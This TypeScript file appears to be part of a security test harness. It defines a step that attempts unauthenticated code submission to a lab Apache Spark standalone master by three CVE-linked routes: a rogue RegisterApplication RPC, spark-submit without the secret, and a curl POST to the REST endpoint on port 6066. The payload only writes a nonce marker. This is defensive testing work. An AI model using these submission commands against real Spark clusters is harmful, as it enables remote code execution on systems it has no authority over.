// An outsider — an OS user of the gateway that is not a tenant and does not hold the cluster's secret — tries to get
// its code run by a Spark standalone cluster, the way each replay needs:
//   register: a one-way RegisterApplication RPC to the master with no handshake at all (CVE-2020-9480; Spark 2.x image)
//   submit:   spark-submit --deploy-mode cluster to the master, without the secret (CVE-2018-17190's open master)
//   rest:     POST /v1/submissions/create to the master's REST server on 6066 (CVE-2018-11770, 4.1's REST default)
// The code is shieldlab.standalone.Marker writing the run's nonce into a file named after it. The step records what
// it sent, the answer, the time window and whether the marker appeared on a node; the checker decides.
import { randomBytes } from "node:crypto";
import { z } from "zod";
import { GATEWAY_NODE } from "../cluster/cluster-config.ts";
import { MASTER_NODE } from "../cluster/topology.ts";
import { hostOf } from "../cluster/cluster-config.ts";
import { HarnessError } from "../errors/harness-error.ts";
import { MARKER_CLASS, MARKER_JAR } from "../standalone/marker-jar.ts";
import { markerPath, waitForMarker, type MarkerSighting } from "../standalone/marker-probe.ts";
import { MASTER_PORT, MASTER_REST_PORT } from "../standalone/standalone-config.ts";
import { STANDALONE_JAR } from "../images/spark-legacy-image.ts";
import { defineStep, StepIdSchema } from "./step-module.ts";

export const StandaloneAttackStepSchema = z.strictObject({
  kind: z.literal("standalone-attack"),
  id: StepIdSchema,
  via: z.enum(["register", "submit", "rest"]),
  /** The outsider's OS user on the gateway (not a tenant; it never sees the cluster's spark-defaults.conf). */
  as: z.string().regex(/^[a-z][a-z0-9_-]{0,30}$/).default("eva"),
  /**
   * rest, on a cluster behind JWSFilter: "none" sends no Authorization header (the outsider); "valid" sends a token
   * signed with the cluster's key — the control that shows the same request runs when it is authenticated.
   */
  token: z.enum(["none", "valid"]).default("none"),
  /** How long to look for the marker after the attempt (ms). */
  waitMs: z.number().int().min(1_000).max(120_000).default(30_000),
});
export type StandaloneAttackStep = z.output<typeof StandaloneAttackStepSchema>;

export interface StandaloneAttackEvidence {
  via: StandaloneAttackStep["via"];
  nonce: string;
  markerFile: string;
  /** When the attempt started and ended (ms since the epoch): daemon log lines are looked for in this window. */
  window: { from: number; to: number };
  command: string;
  exitCode: number;
  /** The client's own output (tail). */
  output: string;
  /** rest: whether the request carried a valid bearer token. */
  token?: "valid";
  /** rest: the REST server's answer (status and body), or why there was none. */
  http?: { status: number; body: string } | { connectError: string };
  /** Where the marker appeared, if it did. */
  marker?: MarkerSighting;
  waitedMs: number;
}

/** The app / driver name an attack gives, carrying the nonce, so that the master's own lines name it. */
export function attackAppName(via: string, nonce: string): string {
  return `shieldlab-${via === "register" ? "rogue" : via}-${nonce}`;
}

export const standaloneAttackStep = defineStep({
  kind: "standalone-attack",
  schema: StandaloneAttackStepSchema,
  managers: ["standalone"],
  describe: (s) => `${s.as} (${s.token === "valid" ? "holding a valid token" : "outsider"}) tries ${s.via === "register" ? "a one-way RegisterApplication" : s.via === "rest" ? "a REST submission" : "spark-submit"} on the master`,
  async run(ctx): Promise<StandaloneAttackEvidence | undefined> {
    const { step, cluster } = ctx;
    const sa = cluster.standalone;
    if (!sa) throw new HarnessError("INVALID_INPUT", "a standalone-attack step needs a standalone cluster");
    const nonce = randomBytes(8).toString("hex");
    const file = markerPath(nonce);
    const master = hostOf(cluster.hosts, MASTER_NODE);
    const name = attackAppName(step.via, nonce);
    let cmd: string;
    if (step.via === "register") {
      cmd = `java -cp '${STANDALONE_JAR}:/opt/spark/jars/*' shieldlab.standalone.RogueRegister ${master} ${MASTER_PORT} ${file} ${nonce} ${MARKER_JAR}`;
    } else if (step.via === "submit") {
      // an empty conf dir of its own: the outsider does not have the cluster's spark-defaults.conf (nor its secret)
      cmd = `mkdir -p /tmp/outsider-conf-${nonce} && SPARK_CONF_DIR=/tmp/outsider-conf-${nonce} timeout 90 spark-submit --master ${sa.masterUrl} --deploy-mode cluster --name ${name} --class ${MARKER_CLASS} --driver-memory 384m --conf spark.driver.supervise=false file:${MARKER_JAR} ${file} ${nonce}`;
    } else {
      const body = JSON.stringify({
        action: "CreateSubmissionRequest",
        appResource: `file:${MARKER_JAR}`,
        mainClass: MARKER_CLASS,
        appArgs: [file, nonce],
        clientSparkVersion: sa.sparkVersion,
        environmentVariables: { SPARK_ENV_LOADED: "1" },
        sparkProperties: { "spark.app.name": name, "spark.master": sa.masterUrl, "spark.submit.deployMode": "cluster", "spark.jars": `file:${MARKER_JAR}`, "spark.driver.supervise": "false", "spark.driver.memory": "384m" },
      });
      // the token (a secret) travels in the environment, never in the recorded command
      const auth = step.token === "valid" ? `-H "Authorization: Bearer $SHIELDLAB_JWS"` : "";
      cmd = `curl -sS -m 20 -o /tmp/rest-${nonce}.json -w 'HTTP %{http_code}\\n' -H 'Content-Type: application/json;charset=UTF-8' ${auth} --data '${body}' http://${master}:${MASTER_REST_PORT}/v1/submissions/create; rc=$?; cat /tmp/rest-${nonce}.json 2>/dev/null; exit $rc`;
    }
    let env: Record<string, string> | undefined;
    if (step.token === "valid") {
      if (step.via !== "rest") throw new HarnessError("INVALID_INPUT", `${step.id}: token "valid" goes with via "rest" (the REST server's JWSFilter)`);
      const token = await sa.bearerToken();
      if (!token) throw new HarnessError("INVALID_INPUT", `${step.id}: token "valid" needs a cluster behind JWSFilter (topology jws: true)`);
      env = { SHIELDLAB_JWS: token };
    }
    const from = Date.now();
    const sent = await ctx.history.record(step.id, `standalone-${step.via}`, { as: step.as, nonce, command: cmd }, () => cluster.exec(GATEWAY_NODE, ["bash", "-c", cmd], { user: step.as, ...(env ? { env } : {}) }));
    const to = Date.now();
    if (!sent.ok) {
      ctx.record.problem = (sent.error as Error).message;
      return undefined;
    }
    const r = sent.value;
    const output = `${r.stdout}\n${r.stderr}`.trim();
    const found = await ctx.history.record(step.id, "look-for-marker", { file, waitMs: step.waitMs }, () => waitForMarker(cluster, nonce, step.waitMs, ctx.signal));
    const marker = found.ok ? found.value : { waitedMs: 0 };
    return {
      via: step.via,
      nonce,
      markerFile: file,
      window: { from, to },
      command: cmd,
      exitCode: r.exitCode,
      output: output.slice(-4000),
      ...(step.via === "rest" ? { http: restAnswer(r.exitCode, r.stdout, r.stderr) } : {}),
      ...(step.token === "valid" ? { token: "valid" as const } : {}),
      ...(marker.sighting ? { marker: marker.sighting } : {}),
      waitedMs: marker.waitedMs,
    };
  },
});

/** curl's "HTTP <code>" line and the body after it; a connection that never got an answer says why. */
export function restAnswer(exitCode: number, stdout: string, stderr: string): { status: number; body: string } | { connectError: string } {
  const m = /^HTTP (\d{3})\n([\s\S]*)$/.exec(stdout);
  if (m && m[1] !== "000") return { status: Number(m[1]), body: m[2]!.slice(0, 4000) };
  return { connectError: (stderr.trim() || `curl exit ${exitCode}`).slice(0, 400) };
}

export function standaloneAttack(o: { id?: string; via: StandaloneAttackStep["via"]; as?: string; token?: "none" | "valid"; waitMs?: number }): z.input<typeof StandaloneAttackStepSchema> {
  return { kind: "standalone-attack", id: o.id ?? `outsider-${o.via}`, via: o.via, as: o.as, token: o.token, waitMs: o.waitMs };
}
